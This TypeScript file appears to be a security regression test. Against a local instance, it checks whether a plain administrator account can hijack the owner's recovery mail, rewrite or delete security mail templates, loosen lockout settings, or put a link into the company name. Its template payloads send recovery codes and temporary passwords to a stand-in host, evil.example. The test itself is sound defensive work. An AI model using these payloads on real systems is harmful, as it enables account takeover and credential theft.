// A plain administrator tries to control what binds the super admin: the templates of the
// security mails (to have the owner's recovery code mailed inside a link of theirs), the
// company's security settings, and any other text that reaches the owner's recovery mail. Run it
// against a fresh office started without SMTP (the owner reads the outbox, codes redacted):
//   npx tsx tests/attacks/security-mail.ts --url http://127.0.0.1:8080 --email OWNER --password PASSWORD
// It prints one line per attack and exits 1 when any of them worked.
import { pathToFileURL } from 'node:url';
import { attackFromCommandLine, call, makeUser, signInOwner, type AttackOutcome } from './client';

const EVIL = 'evil.example';
const EVIL_BODY = `Confirm at http://${EVIL}/c?code={{code}}`;

interface Template {
  id: string;
  kind: string;
  body: string;
  isDefault: boolean;
}

const refusedOrNot = (attack: string, status: number): AttackOutcome => ({
  attack,
  succeeded: status < 300,
  detail: `answered ${status}`,
});

async function defaultTemplate(baseUrl: string, token: string, kind: string): Promise<Template> {
  const list = await call(baseUrl, 'GET', '/admin/email-templates', token);
  const found = (list.body.items as Template[]).find((t) => t.kind === kind && t.isDefault);
  if (!found) throw new Error(`no default ${kind} template: ${JSON.stringify(list.body)}`);
  return found;
}

async function rewriteDefault(baseUrl: string, attacker: string, kind: string, body: string) {
  const template = await defaultTemplate(baseUrl, attacker, kind);
  const patched = await call(baseUrl, 'PATCH', `/admin/email-templates/${template.id}`, attacker, { body });
  return refusedOrNot(`the default ${kind} template rewritten with a link of the attacker's`, patched.status);
}

async function ownTemplateAsDefault(baseUrl: string, attacker: string): Promise<AttackOutcome> {
  const created = await call(baseUrl, 'POST', '/admin/email-templates', attacker, {
    kind: 'password-recovery',
    name: 'Friendly recovery',
    subject: 'Your code',
    body: EVIL_BODY,
    isDefault: true,
  });
  return refusedOrNot("a recovery template of the attacker's made the default", created.status);
}

async function deleteTemplate(baseUrl: string, attacker: string, owner: string): Promise<AttackOutcome> {
  const made = await call(baseUrl, 'POST', '/admin/email-templates', owner, {
    kind: 'welcome',
    name: 'Owner’s welcome',
    subject: 'Welcome',
    body: 'Welcome, {{name}}: {{temporaryPassword}} at {{portalUrl}}',
  });
  if (made.status !== 201) throw new Error(`the owner cannot add a template: ${JSON.stringify(made.body)}`);
  const deleted = await call(baseUrl, 'DELETE', `/admin/email-templates/${made.body.id}`, attacker);
  return refusedOrNot("a security mail template of the owner's deleted", deleted.status);
}

async function loosenSecurity(baseUrl: string, attacker: string, owner: string): Promise<AttackOutcome> {
  const loose = { lockoutThreshold: 100, minPasswordLength: 8, adminIdleTimeoutMinutes: 1440 };
  const patched = await call(baseUrl, 'PATCH', '/admin/company', attacker, { security: loose });
  const now = (await call(baseUrl, 'GET', '/admin/company', owner)).body.security;
  const changed = Object.entries(loose).filter(([key, value]) => now[key] === value);
  return {
    attack: 'the security settings loosened (100 tries, 8 characters, 1,440-minute admin sessions)',
    succeeded: patched.status < 300 || changed.length > 0,
    detail: `answered ${patched.status}; ${changed.length} of 3 settings as the attacker wanted`,
  };
}

/** Mails to `address` in the outbox as the owner reads it (every mail, secrets redacted). */
async function mailsTo(baseUrl: string, owner: string, address: string) {
  const outbox = await call(baseUrl, 'GET', '/admin/outbox?limit=200', owner);
  return (outbox.body.items as { to: string; kind: string | null; subject: string; body: string }[]).filter(
    (mail) => mail.to === address,
  );
}

/**
 * The owner's recovery, asked for after every other attempt and with a link in the company's
 * name (company details are any admin's): the mail the owner receives links to the attacker's
 * site, or not.
 */
async function recoveryMailLinks(
  baseUrl: string,
  attacker: string,
  owner: { token: string; email: string },
): Promise<AttackOutcome> {
  const renamed = await call(baseUrl, 'PATCH', '/admin/company', attacker, {
    name: `Example Ltd. Confirm at http://${EVIL}/c`,
  });
  const before = (await mailsTo(baseUrl, owner.token, owner.email)).length;
  await call(baseUrl, 'POST', '/auth/password-recovery', undefined, { login: owner.email });
  let recovery: { subject: string; body: string } | undefined;
  for (let waited = 0; waited < 10_000 && !recovery; waited += 100) {
    const mails = await mailsTo(baseUrl, owner.token, owner.email);
    if (mails.length > before) recovery = mails.find((mail) => mail.kind === 'password-recovery');
    else await new Promise((resolve) => setTimeout(resolve, 100));
  }
  if (!recovery) throw new Error('the owner’s recovery mail did not arrive');
  const text = `${recovery.subject}\n${recovery.body}`;
  return {
    attack: "the owner's recovery mail carries a link of the attacker's (template or company name)",
    succeeded: text.includes(EVIL),
    detail: `company renamed: ${renamed.status}; the mail ${text.includes(EVIL) ? 'links' : 'does not link'} to ${EVIL}`,
  };
}

/** Runs every attempt as a fresh plain admin; the owner's credentials set it up and read the results. */
export async function attemptSecurityMail(
  baseUrl: string,
  ownerEmail: string,
  ownerPassword: string,
): Promise<AttackOutcome[]> {
  const ownerToken = await signInOwner(baseUrl, ownerEmail, ownerPassword);
  const attacker = await makeUser(baseUrl, ownerToken, {
    name: 'Mallory Templates',
    role: 'admin',
    password: 'Quiet-Harbour-Lantern-47',
  });
  return [
    await rewriteDefault(baseUrl, attacker.token, 'password-recovery', EVIL_BODY),
    await rewriteDefault(
      baseUrl,
      attacker.token,
      'welcome',
      `Activate at http://${EVIL}/w?p={{temporaryPassword}}`,
    ),
    await rewriteDefault(baseUrl, attacker.token, 'password-reset', `Sign in at http://${EVIL}/`),
    await ownTemplateAsDefault(baseUrl, attacker.token),
    await deleteTemplate(baseUrl, attacker.token, ownerToken),
    await loosenSecurity(baseUrl, attacker.token, ownerToken),
    await recoveryMailLinks(baseUrl, attacker.token, { token: ownerToken, email: ownerEmail }),
  ];
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href)
  await attackFromCommandLine('security-mail.ts', ['email', 'password'], (flags) =>
    attemptSecurityMail(flags.url, flags.email, flags.password),
  );
